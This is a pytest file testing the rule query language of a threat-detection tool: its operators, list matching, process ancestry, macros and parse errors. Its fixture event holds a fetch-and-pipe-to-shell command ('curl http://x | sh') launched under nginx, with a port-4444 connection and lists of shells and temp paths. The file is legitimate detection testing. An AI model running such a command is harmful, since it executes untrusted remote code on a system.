"""The query language: parser, every operator, list semantics, macros, lists, ancestry, errors."""

from __future__ import annotations

import pytest

from threatseer.hub.rules.query import QueryError, compile_condition, parse

LISTS = {"shells": ["bash", "sh"], "tmp": ["/tmp/", "/dev/shm/"], "ports": [4444, 5555]}


def match(cond: str, event: dict, macros: dict | None = None) -> bool:
    node = parse(cond, {k: parse(v, None, LISTS) for k, v in (macros or {}).items()}, LISTS)
    return compile_condition(node)(event)


EV = {
    "event.action": "exec",
    "process.name": "bash",
    "process.pid": 42,
    "process.args": ["bash", "-c", "curl http://x | sh"],
    "process.executable": "/usr/bin/bash",
    "process.parent.name": "nginx",
    "threatseer.ancestors": ["nginx", "systemd"],
    "destination.ip": "10.1.2.3",
    "destination.port": 4444,
    "user.name": "Alice",
}


@pytest.mark.parametrize(
    ("cond", "expected"),
    [
        ("process.name = bash", True),
        ("process.name = sh", False),
        ("process.name == 'bash'", True),
        ("process.name != sh", True),
        ("process.name != bash", False),
        ("process.pid = 42", True),
        ("process.pid = '42'", True),  # literal strings and numbers compare both ways
        ("process.pid < 43", True),
        ("process.pid <= 42", True),
        ("process.pid > 42", False),
        ("process.pid >= 42", True),
        ("destination.port in (4444, 8080)", True),
        ("destination.port in ports", True),
        ("destination.port in (80)", False),
        ("process.name in shells", True),
        ("process.name in (zsh, 'fish')", False),
        ("process.name not in shells", False),
        ("process.executable contains /bin/", True),
        ("process.executable contains /sbin/", False),
        ("process.executable startswith /usr/", True),
        ("process.executable startswith ('/opt/', /usr/)", True),
        ("process.executable endswith /bash", True),
        ("process.executable endswith /zsh", False),
        ("process.executable glob '/usr/*/ba?h'", True),
        ("process.executable glob '/bin/*'", False),
        ("process.executable regex 'b[a-z]sh$'", True),
        (r"process.executable regex '^/usr/bin/\d+'", False),
        ("destination.ip cidr 10.0.0.0/8", True),
        ("destination.ip cidr (192.168.0.0/16, 172.16.0.0/12)", False),
        ("user.name icontains alice", True),
        ("user.name contains alice", False),
        ("user.name ieq ALICE", True),
        ("user.name istartswith al", True),
        ("user.name iendswith ICE", True),
        ("user.name iglob 'a*'", True),
        ("user.name iregex '^ali'", True),
        ("process.pid exists", True),
        ("file.path exists", False),
        ("not file.path exists", True),
        ("true", True),
        ("false", False),
    ],
)
def test_operators(cond: str, expected: bool) -> None:
    assert match(cond, EV) is expected


def test_list_fields_match_if_any_element_matches() -> None:
    assert match("process.args = -c", EV)
    assert match("process.args contains curl", EV)
    assert match("process.args startswith cur", EV)
    assert not match("process.args = -x", EV)
    # != is "no element equals"
    assert not match("process.args != -c", EV)
    assert match("process.args != -x", EV)


def test_ancestry_fields() -> None:
    assert match("process.parent.name = nginx", EV)
    assert match("process.ancestors[0] = nginx", EV)
    assert match("process.ancestors[1] = systemd", EV)
    assert not match("process.ancestors[1] = nginx", EV)
    assert not match("process.ancestors[3] exists", EV)
    assert match("process.ancestors = systemd", EV)  # any ancestor
    assert match("threatseer.ancestors[0] = nginx", EV)


def test_precedence_and_parentheses() -> None:
    # not > and > or
    assert match("process.name = sh and false or true", EV)
    assert not match("process.name = sh and (false or true)", EV)
    assert match("not process.name = sh and process.pid = 42", EV)
    assert not match("not (process.name = bash and process.pid = 42)", EV)


def test_missing_field_is_false_except_negations() -> None:
    assert not match("file.path = /etc/shadow", EV)
    assert match("file.path != /etc/shadow", EV)
    assert not match("file.path contains x", EV)
    assert not match("file.size > 1", EV)


def test_macros_nest() -> None:
    macros = {"is_shell": "process.name in shells", "web": "process.parent.name = nginx"}
    assert match("is_shell and web", EV, macros)
    assert not match("is_shell and not web", EV, macros)


@pytest.mark.parametrize(
    ("cond", "message", "column"),
    [
        ("process.name = ", "expected a value", 16),
        ("process.name in nolist", "unknown list 'nolist'", 17),
        ("(process.name = bash", "expected ')'", 21),
        ("process.name = bash bash", "unexpected 'bash'", 21),
        ("undefined_macro and true", "unknown macro 'undefined_macro'", 1),
        ("process.pid < abc", "needs one number", 13),
        ("and process.name = x", "unexpected 'and'", 1),
        ("process.name = 'unterminated", "unexpected character", 16),
    ],
)
def test_errors_name_the_column(cond: str, message: str, column: int) -> None:
    with pytest.raises(QueryError) as err:
        parse(cond, None, LISTS)
    assert message in str(err.value)
    assert err.value.column == column


def test_bad_regex_is_a_compile_error() -> None:
    with pytest.raises(QueryError, match="bad regex"):
        compile_condition(parse("process.name regex '('"))


def test_quoted_strings_keep_backslashes_except_quote_escapes() -> None:
    assert match(r'process.args regex "^-\w$"', EV)
    assert match(r"process.args contains 'http://x | sh'", EV)
    assert match(r'user.name = "Al\"ice"', {"user.name": 'Al"ice'})
